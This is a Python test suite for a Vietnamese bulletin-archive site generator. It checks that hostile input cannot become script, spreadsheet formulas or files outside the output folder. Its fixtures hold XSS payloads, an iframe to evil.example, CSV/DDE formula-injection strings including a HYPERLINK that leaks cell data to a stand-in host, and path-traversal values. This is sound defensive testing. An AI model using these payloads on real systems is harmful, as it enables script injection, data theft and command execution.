"""Security: a hostile corpus cannot become code in a visitor's browser or spreadsheet, cannot
place a file outside the output folder, and the build makes no network request. Every page
carries the same Content-Security-Policy.

The corpus holds bulletins whose title, body and sidecar values carry script tags, event-handler
attributes, quotes, ``javascript:`` addresses, ``</script>``, ``]]>``, spreadsheet formulas at
the start of a cell, control characters and U+2028/U+2029; file names with dots, dashes,
backslashes, 240 bytes of Vietnamese, and names that fold to the same slug; sidecars with
path-like values. The assertions are on the generated files, parsed as a browser, a feed reader
or a spreadsheet would read them.
"""
from __future__ import annotations

import csv
import io
import json
import re
import socket
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import ROOT, seed_settings
from danvan_site.site.exports import CSV_COLUMNS
from danvan_site.build.pipeline import build
from danvan_site.search import find_executable, search_records

CSP = ("default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; "
       "connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'")

HOSTILE_TITLE = ("Hội nghị \"trích dẫn\" 'nháy' <script>alert(1)</script></script><script>alert(2)</script> ]]> & "
                 "<!-- x --> \" onmouseover=\"alert(6) ' onfocus='alert(7) tại phường Gia Thụy")
CONTROL = "\x01\x07\x1b"
HOSTILE = (
    f"{HOSTILE_TITLE}\n12/07/2021 10:00\n\n"
    "Sáng ngày 10/7, Đảng ủy phường Gia Thụy và MTTQ<script>alert(15)</script> tổ chức hội nghị <img src=x onerror=alert(3)> với sự tham dự "
    "của đồng chí Nguyễn Văn An, Bí thư Đảng ủy phường.\n\n"
    'Xem <a href="javascript:alert(4)">tại đây</a> hoặc javascript:alert(5) và <iframe src="http://evil.example/"></iframe>.\n\n'
    f"Ký tự điều khiển:{CONTROL} hết. Dòng\u2028mới\u2029đoạn. Kết thúc ]]> <![CDATA[ x ]]> <svg onload=alert(8)>.\n\n"
    "javascript:alert(9)//anh.png\n\n"
    '[caption]<img src="javascript:alert(10)"> Ảnh: hội nghị[/caption]\n'
)
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây") Hội Cựu chiến binh xã Tân Lộc tổng kết năm 2022'
FORMULA = (
    f"{FORMULA_TITLE}\n15/12/2022 08:00\n\n"
    "+cmd|' /C calc'!A0 Chiều ngày 14/12, Hội Cựu chiến binh xã Tân Lộc tổ chức hội nghị tổng kết công tác Hội năm 2022, "
    "bình chọn mười hội viên xuất sắc trong phong trào giúp nhau làm kinh tế.\n"
)
MINUS = (
    "-1+1 Mặt trận phường Đông Xuyên giao ban quý III năm 2020\n02/10/2020\n\n"
    "@SUM(1+1)*cmd|' /C calc'!A0 Sáng ngày 01/10, Ban Thường trực Ủy ban MTTQ phường Đông Xuyên giao ban với "
    "các tổ chức thành viên, đánh giá kết quả cuộc vận động người Việt Nam ưu tiên dùng hàng Việt Nam.\n"
)

# Different bodies, so that no two bulletins are merged as duplicates.
BODIES = [
    "Sáng ngày 03/3, Hội Nông dân xã Tân Lộc tổ chức tập huấn kỹ thuật trồng lúa cho 120 hội viên. "
    "Các học viên được hướng dẫn cách bón phân cân đối và phòng trừ sâu bệnh.",
    "Chiều ngày 05/4, Ban Dân vận Huyện ủy kiểm tra việc thực hiện quy chế dân chủ tại ba thôn. "
    "Đoàn ghi nhận nhiều cách làm hay trong công khai thu chi ngân sách.",
    "Ngày 12/5, Đoàn Thanh niên phường ra quân làm sạch kênh rạch, thu gom hai tấn rác thải. "
    "Hơn năm mươi đoàn viên cùng người dân khơi thông dòng chảy.",
    "Tối ngày 20/6, Mặt trận Tổ quốc thị trấn tiếp xúc cử tri trước kỳ họp Hội đồng nhân dân. "
    "Cử tri kiến nghị sửa chữa đèn chiếu sáng và nâng cấp chợ.",
    "Sáng ngày 08/8, Hội Liên hiệp Phụ nữ xã trao mười con bò giống cho hộ nghèo vay vốn. "
    "Mỗi hộ nhận thêm tài liệu hướng dẫn chăm sóc vật nuôi.",
    "Ngày 15/9, Hội Cựu chiến binh quận sơ kết sáu tháng phong trào giúp nhau làm kinh tế. "
    "Nhiều hội viên đã thoát nghèo nhờ mô hình nuôi ong lấy mật.",
    "Chiều ngày 22/10, Công đoàn cơ sở tuyên dương hai mươi đoàn viên tiêu biểu năm 2023. "
    "Phần thưởng gồm giấy khen và một suất quà của ban chấp hành.",
    "Sáng ngày 30/11, Ủy ban nhân dân phường đối thoại với người dân về giải phóng mặt bằng. "
    "Lãnh đạo phường giải đáp từng thắc mắc về giá bồi thường.",
    "Ngày 04/1, Chi bộ khu phố họp bàn xây dựng tuyến đường hoa dài ba trăm mét. "
    "Bà con góp công trồng cây và giữ gìn vệ sinh chung.",
]
SAME_TITLE = "Bản tin công tác dân vận"
LONG_NAME = "ả" * 80  # 240 bytes in UTF-8, near the 255-byte limit of a file name

# file name -> text. Names that fold to one slug ("Bản tin", "Ban tin", "BAN TIN"), names with
# dots, a leading dash, backslashes and a very long name.
FILES = {
    "hostile.txt": HOSTILE,
    "cong-thuc.txt": FORMULA,
    "am-mot.txt": MINUS,
    "Bản tin.txt": f"{SAME_TITLE}\n01/03/2023\n\n{BODIES[0]}\n",
    "Ban tin.txt": f"{SAME_TITLE}\n01/04/2023\n\n{BODIES[1]}\n",
    "BAN TIN.txt": f"{SAME_TITLE}\n01/05/2023\n\n{BODIES[2]}\n",
    "..txt": f"Thị trấn tiếp xúc cử tri\n21/06/2023\n\n{BODIES[3]}\n",
    "...txt": f"Phụ nữ xã trao bò giống\n09/08/2023\n\n{BODIES[4]}\n",
    "-rf.txt": f"Cựu chiến binh quận sơ kết\n16/09/2023\n\n{BODIES[5]}\n",
    "a\\..\\..\\b.txt": f"Công đoàn tuyên dương đoàn viên\n23/10/2023\n\n{BODIES[6]}\n",
    f"{LONG_NAME}.txt": f"Phường đối thoại với người dân\n30/11/2023\n\n{BODIES[7]}\n",
    "duong-dan.txt": f"Chi bộ khu phố họp bàn\n05/01/2024\n\n{BODIES[8]}\n",
}
# Sidecars: hostile values for fields that reach attributes, the CSV and the search records;
# path-like values for everything that becomes part of a URL.
SIDECARS = {
    "Bản tin.yaml": (
        "author: '@SUM(1+1)'\n"
        "organizer: '=1+1'\n"
        "section: \"\\t=cmd|' /C calc'!A0\"\n"
        "summary: '<script>alert(11)</script>\" onload=\"alert(12)'\n"
        "locality: {level: phường, name: 'Gia Thụy\" onmouseover=\"alert(13)', province: Hà Nội}\n"
        "people: [{name: '=HYPERLINK(\"http://evil.example/\")', roles: ['<b>Bí thư</b>']}]\n"
        "organisations: ['<script>alert(14)</script>']\n"
    ),
    "duong-dan.yaml": (
        "title: ../../../../../../tmp/evil\n"
        "locality: {level: xã, name: ../../../../x, province: ../../y, district: ../z}\n"
        "people: [../../../w]\n"
        "organisations: [../../../../o]\n"
        "period: {label: ../../p, start: 2023-01-01, end: 2023-12-31}\n"
    ),
    "..yaml": "slug: ../../../escaped\nurl: /etc/passwd\n",
}


class Page(HTMLParser):
    """What a browser would run: script elements, event-handler attributes, script URLs; and
    the text it would show."""

    URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background"}

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.handlers: list[tuple[str, str, str | None]] = []
        self.script_urls: list[tuple[str, str, str]] = []
        self.tags: list[str] = []
        self.csp: list[tuple[int, str | None]] = []
        self.data: list[str] = []
        self._script: int | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name, value))
            if name in self.URL_ATTRS and value is not None:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                if plain.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.script_urls.append((tag, name, value))
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append((len(self.tags) - 1, values.get("content")))
        if tag == "script":
            self.scripts.append((values, ""))
            self._script = len(self.scripts) - 1

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._script = None

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            attrs, text = self.scripts[self._script]
            self.scripts[self._script] = (attrs, text + data)
        else:
            self.data.append(data)

    @property
    def text(self) -> str:
        return "".join(self.data)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    corpus = base / "corpus"
    corpus.mkdir()
    for name, text in FILES.items():
        (corpus / name).write_text(text, encoding="utf-8")
    for name, text in SIDECARS.items():
        (corpus / name).write_text(text, encoding="utf-8")
    (base / "beside.txt").write_text("next to the output", encoding="utf-8")
    before = sorted(p.relative_to(base).as_posix() for p in base.rglob("*"))
    settings = seed_settings(base / "site", corpus, base_url="https://example.org/luu-tru",
                             search=find_executable() is not None)
    result = build(settings)
    assert result.written
    return result, settings, base, before


def _pages(site: Path) -> dict[str, Page]:
    return {p.relative_to(site).as_posix(): Page(p.read_text(encoding="utf-8")) for p in sorted(site.rglob("*.html"))}


@pytest.fixture(scope="module")
def pages(hostile):
    return _pages(hostile[2] / "site")


def _article(result, source_file: str):
    return next(a for a in result.collected.articles if a.source_file == source_file)


# --- HTML ------------------------------------------------------------------------------------


def test_no_script_event_handler_or_script_url_comes_from_the_text(hostile, pages):
    assert len(pages) > 60
    for path, page in pages.items():
        for attrs, body in page.scripts:
            # Only the JSON-LD data block and the site's own search script, by a relative path.
            assert attrs == {"type": "application/ld+json"} or (
                path == "tim-kiem/index.html" and attrs == {"src": "../static/search.js", "defer": None} and body == ""
            ), (path, attrs)
        assert page.handlers == [], path
        assert page.script_urls == [], path
        assert not {"iframe", "frame", "img", "object", "embed", "applet", "base", "b"} & set(page.tags), path
        if path != "thong-ke/index.html":  # the statistics charts are inline SVG
            assert "svg" not in page.tags, path


def test_hostile_text_is_shown_as_text(hostile, pages):
    result = hostile[0]
    art = _article(result, "hostile.txt")
    assert art.title == HOSTILE_TITLE
    page = pages[f"{art.url}index.html"]
    text = page.text
    assert HOSTILE_TITLE in text
    assert "<img src=x onerror=alert(3)>" in text
    assert 'Xem <a href="javascript:alert(4)">tại đây</a> hoặc javascript:alert(5)' in text
    assert "<svg onload=alert(8)>" in text
    assert "javascript:alert(9)//anh.png" in text  # an image file name: shown as code, never a link
    sidecar = _article(result, "Bản tin.txt")
    assert sidecar.overridden  # the hostile sidecar was applied
    shown = pages[f"{sidecar.url}index.html"].text
    assert "<script>alert(14)</script>" in shown and "<b>Bí thư</b>" in shown


def test_attributes_keep_quotes_inside(hostile):
    """The title and a summary with quotes, in Open Graph and description attributes."""
    result, _, base, _ = hostile
    art = _article(result, "hostile.txt")
    html = (base / "site" / art.url / "index.html").read_text(encoding="utf-8")
    metas = re.findall(r'<meta property="og:title" content="([^"]*)">', html)
    assert len(metas) == 1
    assert "\"" not in metas[0] and "&#34;" in metas[0] and "&#39;" in metas[0]
    summary = _article(result, "Bản tin.txt")
    html = (base / "site" / summary.url / "index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="&lt;script&gt;alert(11)&lt;/script&gt;&#34; onload=&#34;alert(12)">' in html


def test_json_ld_parses_and_cannot_end_its_script_block(hostile, pages):
    result = hostile[0]
    blocks = 0
    for path, page in pages.items():
        for attrs, body in page.scripts:
            if attrs.get("type") != "application/ld+json":
                continue
            blocks += 1
            assert "</" not in body and "<!--" not in body and "\u2028" not in body and "\u2029" not in body, path
            json.loads(body)
    assert blocks == len(result.collected.articles) == len(FILES)
    art = _article(result, "hostile.txt")
    body = next(b for a, b in pages[f"{art.url}index.html"].scripts if a.get("type") == "application/ld+json")
    assert json.loads(body)["headline"] == HOSTILE_TITLE


# --- feeds, CSV, JSON, search records --------------------------------------------------------


def test_every_feed_and_sitemap_parses_with_the_text_intact(hostile):
    result, _, base, _ = hostile
    site = base / "site"
    feeds = sorted(site.rglob("*.xml"))
    assert "feed.xml" in {p.name for p in feeds} and "sitemap.xml" in {p.name for p in feeds}
    titles = set()
    atom = "{http://www.w3.org/2005/Atom}"
    for path in feeds:
        root = ET.parse(path).getroot()
        titles |= {e.findtext(f"{atom}title") for e in root.iter(f"{atom}entry")}
    assert HOSTILE_TITLE in titles and FORMULA_TITLE in titles
    root = ET.parse(site / "feed.xml").getroot()
    entry = next(e for e in root.iter(f"{atom}entry") if e.findtext(f"{atom}title") == HOSTILE_TITLE)
    assert entry.find(f"{atom}link").get("href").startswith("https://example.org/luu-tru/bai-viet/")
    # The control characters XML cannot hold are left out; the rest is there as written.
    hostile_art = _article(result, "hostile.txt")
    assert hostile_art.summary.startswith("Sáng ngày 10/7")
    assert entry.findtext(f"{atom}summary") == hostile_art.summary


def test_csv_cells_cannot_run_as_formulas(hostile):
    result, _, base, _ = hostile
    raw = (base / "site" / "api" / "articles.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FILES)
    for row in rows:
        for column in CSV_COLUMNS:
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell), (column, cell)
    by_file = {row["source_file"]: row for row in rows}
    assert by_file["cong-thuc.txt"]["title"] == "'" + FORMULA_TITLE
    assert by_file["cong-thuc.txt"]["summary"].startswith("'+cmd|' /C calc'!A0 Chiều ngày 14/12")
    assert by_file["am-mot.txt"]["title"] == "'-1+1 Mặt trận phường Đông Xuyên giao ban quý III năm 2020"
    assert by_file["am-mot.txt"]["summary"].startswith("'@SUM(1+1)*cmd")
    side = by_file["Bản tin.txt"]
    assert (side["author"], side["organizer"], side["section"], side["people"]) == (
        "'@SUM(1+1)", "'=1+1", "'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/\")")  # the tab: collapsed
    assert by_file["'-rf.txt"]["title"] == "Cựu chiến binh quận sơ kết"  # the file name is a text cell too
    assert by_file["hostile.txt"]["title"] == HOSTILE_TITLE


def test_json_export_holds_the_text_as_written(hostile):
    base = hostile[2]
    data = json.loads((base / "site" / "api" / "articles.json").read_text(encoding="utf-8"))
    titles = {a["title"] for a in data["articles"]}
    assert {HOSTILE_TITLE, FORMULA_TITLE} <= titles


def test_search_records_hold_plain_text(hostile):
    result, settings, base, _ = hostile
    records = {r.url: r for r in search_records(result.archive, settings)}
    art = _article(result, "hostile.txt")
    record = records[f"{art.url}index.html"]
    assert record.meta["title"] == HOSTILE_TITLE  # not HTML-escaped: search.js sets it as text
    assert "<img src=x onerror=alert(3)>" in record.content
    assert "&lt;" not in record.content and "&#" not in record.content
    side = records[f"{_article(result, 'Bản tin.txt').url}index.html"]
    assert side.meta["summary"] == "<script>alert(11)</script>\" onload=\"alert(12)"
    # The search page puts every field of a result into the page as text, never as markup.
    script = (ROOT / "src/danvan_site/site/theme" / "static" / "search.js").read_text(encoding="utf-8")
    assert "textContent" in script
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
        assert sink not in script, sink
    if settings.search:
        assert (base / "site" / "pagefind" / "pagefind.js").is_file()


# --- nothing outside the output folder -------------------------------------------------------


def test_no_name_or_sidecar_value_places_a_file_outside_the_output(hostile):
    result, _, base, before = hostile
    site = base / "site"
    after = sorted(p.relative_to(base).as_posix() for p in base.rglob("*"))
    # (the working folder beside it, with the cache and the spare copy of the site, is the build's own)
    assert [p for p in after if not p.startswith(("site/", ".danvan")) and p != "site"] == before
    assert (base / "beside.txt").read_text(encoding="utf-8") == "next to the output"
    for path in site.rglob("*"):
        assert not path.is_symlink(), path
        assert path.resolve().is_relative_to(site.resolve()), path
        rel = path.relative_to(site).as_posix()
        assert len(rel.encode()) < 400 and all(len(part.encode()) <= 255 for part in rel.split("/")), rel
        assert re.fullmatch(r"[A-Za-z0-9._/-]+", rel), rel  # ASCII names only


def test_path_like_sidecar_values_stay_inside(hostile):
    result = hostile[0]
    art = _article(result, "duong-dan.txt")
    assert set(art.overridden) == {"title", "locality", "people", "organisations", "period"}
    assert art.title == "../../../../../../tmp/evil"
    assert re.fullmatch(r"bai-viet/tmp-evil-[0-9a-f]{6}/", art.url)
    a = result.archive
    assert (a.locality_of[art.id].url, a.period_of[art.id].url) == (
        "dia-phuong/y/z/xa-x/", "ky-bao-cao/2023/p/")
    assert [n.url for n in a.people.children if n.label == "../../../w"] == ["nguoi/w-" + n.url[-7:-1] + "/"
                                                                            for n in a.people.children
                                                                            if n.label == "../../../w"]
    assert [n.url for n in a.organisations.children if "o" == n.label.strip("./")][0].startswith("to-chuc/o-")
    every = [a.all_articles, a.localities, a.dates, a.meeting_types, a.people, a.organisations, a.periods]
    while every:
        node = every.pop()
        assert re.fullmatch(r"(?:[a-z0-9-]+/)*", node.url) and ".." not in node.url, node.url
        every.extend(node.children)


def test_a_sidecar_cannot_set_a_slug_or_url(hostile):
    result = hostile[0]
    said = {(d.file, d.line, d.message) for d in result.diagnostics if d.file == "..yaml"}
    assert said == {("..yaml", 1, "unknown sidecar key 'slug'")}
    art = _article(result, "..txt")
    assert art.overridden == [] and re.fullmatch(r"bai-viet/thi-tran-tiep-xuc-cu-tri-[0-9a-f]{6}/", art.url)


def test_names_that_fold_to_one_slug_get_pages_of_their_own(hostile):
    result, _, base, _ = hostile
    site = base / "site"
    arts = [_article(result, name) for name in ("Bản tin.txt", "Ban tin.txt", "BAN TIN.txt")]
    assert len({a.url for a in arts}) == 3 and len({a.raw_url for a in arts}) == 3
    for art in arts:
        assert re.fullmatch(r"bai-viet/ban-tin-cong-tac-dan-van-[0-9a-f]{6}/", art.url)
        assert (site / art.url / "index.html").is_file()
        assert (site / art.raw_url).read_bytes() == (base / "corpus" / art.source_file).read_bytes()
    for name in ("..txt", "...txt", "-rf.txt", "a\\..\\..\\b.txt", f"{LONG_NAME}.txt"):
        art = _article(result, name)
        assert re.fullmatch(r"nguon/[a-z0-9][a-z0-9_-]*\.txt", art.raw_url), (name, art.raw_url)
        assert (site / art.raw_url).read_bytes() == (base / "corpus" / name).read_bytes()
        assert (site / art.url / "index.html").is_file()


# --- no network ------------------------------------------------------------------------------


def test_a_whole_build_makes_no_network_request(tmp_path, monkeypatch):
    attempts: list[str] = []

    def refuse(name):
        def refused(*args, **kwargs):
            attempts.append(name)
            raise OSError(f"network access during the build: {name}{args!r}")
        return refused

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    search = find_executable() is not None
    result = build(seed_settings(tmp_path / "site", base_url="https://example.org/luu-tru", search=search))
    assert result.written and attempts == []
    assert [d.format() for d in result.diagnostics] == []
    assert (tmp_path / "site" / "pagefind" / "pagefind.js").is_file() == search


# --- Content-Security-Policy -----------------------------------------------------------------


def test_every_page_carries_the_content_security_policy(hostile, pages, plain_seed_site):
    seeds = _pages(plain_seed_site)
    for path, page in [*pages.items(), *seeds.items()]:
        assert len(page.csp) == 1, path
        position, content = page.csp[0]
        assert content == CSP, path
        # Before anything it governs: only <html>, <head> and <meta charset> come first.
        assert page.tags[:position] == ["html", "head", "meta"], path
    assert "404.html" in pages and "tim-kiem/index.html" in pages


def test_no_page_needs_what_the_policy_refuses(pages):
    """No inline script or style, no style attribute, no external address in src or href of a
    resource (links to other sites in the text would be plain text anyway)."""
    theme = ROOT / "src/danvan_site/site/theme"
    for template in sorted(theme.glob("*.html")):
        text = template.read_text(encoding="utf-8")
        assert " style=" not in text and "<style" not in text, template.name
        assert re.findall(r"<script(?![^>]*(?:\bsrc=|application/ld\+json))", text) == [], template.name
    for path, page in pages.items():
        assert "style" not in page.tags, path
